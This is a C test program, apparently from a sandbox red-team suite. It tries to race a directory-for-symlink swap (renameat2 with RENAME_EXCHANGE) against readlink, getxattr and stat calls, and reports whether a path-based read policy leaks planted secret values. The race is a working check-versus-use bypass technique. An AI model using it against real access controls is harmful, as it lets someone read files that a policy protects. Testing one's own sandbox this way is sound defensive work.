/* race_readmeta: swap a directory for a symlink between the check and the call, for the
 * read-only path calls that are held by their canonical path (not as an open with
 * RESOLVE_NO_SYMLINKS): readlink, getxattr, stat.  Red team 2 of issue 11.
 *
 *   race_readmeta MODE PROTECTED WORK [ITERATIONS [SECONDS]]
 *
 * PROTECTED is a directory the policy refuses to read; it holds "link", a symlink whose
 * target is the text "SECRET-LINK-TARGET", and "file", a file with the extended attribute
 * user.secret = "SECRET-XATTR" (mode 0640).  WORK/d is a real directory holding its own "link"
 * (to "decoy") and "file" (no xattr, mode 0644); WORK/alt is a symlink to PROTECTED; a thread
 * swaps the two names (RENAME_EXCHANGE) while we call on WORK/d/NAME -- permitted whenever the
 * check sees the real directory.
 *
 * MODE: readlink  readlink(WORK/d/link): ESCAPED when it reads the secret target
 *       getxattr  getxattr(WORK/d/file, user.secret): ESCAPED when it reads the secret value
 *       stat      stat(WORK/d/file): ESCAPED when it reports PROTECTED/file's inode
 * Class 2 (races between check and use).
 */
#include "race.h"

#include <linux/fs.h>
#include <sys/xattr.h>

static volatile int stop;
static volatile long flips;
static char d[4096], alt[4096];

static void *swapper(void *arg) {
    (void)arg;
    while (!stop) {
        syscall(SYS_renameat2, AT_FDCWD, d, AT_FDCWD, alt, RENAME_EXCHANGE);
        flips++;
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 4)
        usage("race_readmeta MODE PROTECTED WORK [ITERATIONS [SECONDS]]");
    const char *mode = argv[1], *prot = argv[2], *work = argv[3];
    struct budget budget;
    budget_args(&budget, argc, argv, 4);
    if (strcmp(mode, "readlink") && strcmp(mode, "getxattr") && strcmp(mode, "stat"))
        usage("MODE: readlink getxattr stat");
    char link[4096], file[4096], buf[256], why[512] = "";
    /* the secret's inode, for stat: read by the test harness natively, passed as PROTECTED's
     * "file" being the only file of that inode on this file system */
    unsigned long long secret_ino = 0;
    if (argc > 6)
        secret_ino = strtoull(argv[6], NULL, 10);
    snprintf(d, sizeof d, "%s/d", work);
    snprintf(alt, sizeof alt, "%s/alt", work);
    mkdir(d, 0755);
    snprintf(link, sizeof link, "%s/d/link", work);
    snprintf(file, sizeof file, "%s/d/file", work);
    symlink("decoy", link);
    write_file(file, "decoy\n");
    symlink(prot, alt);

    pthread_t th;
    pthread_create(&th, NULL, swapper, NULL);
    wait_for_peer(&flips);
    budget.start = now_s();
    long ok = 0, failed = 0;
    int hit = 0;
    while (budget_left(&budget) && !hit) {
        ssize_t n;
        if (!strcmp(mode, "readlink")) {
            n = readlink(link, buf, sizeof buf - 1);
            if (n > 0) {
                buf[n] = 0;
                if (strstr(buf, "SECRET")) {
                    snprintf(why, sizeof why, "readlink gave \"%s\"", buf);
                    hit = 1;
                }
            }
        } else if (!strcmp(mode, "getxattr")) {
            n = getxattr(file, "user.secret", buf, sizeof buf - 1);
            if (n > 0) {
                buf[n] = 0;
                if (strstr(buf, "SECRET")) {
                    snprintf(why, sizeof why, "getxattr gave \"%s\"", buf);
                    hit = 1;
                }
            }
        } else {
            struct stat st;
            n = stat(file, &st);
            if (n == 0 && secret_ino && (unsigned long long)st.st_ino == secret_ino) {
                snprintf(why, sizeof why, "stat() of inode %llu: the secret", secret_ino);
                hit = 1;
            }
        }
        if (n < 0)
            failed++;
        else
            ok++;
    }
    stop = 1;
    pthread_join(th, NULL);
    note("%ld tries: %ld succeeded, %ld failed", budget.done - 1, ok, failed);
    if (hit)
        escaped("%s", why);
    blocked("nothing of PROTECTED was read");
}
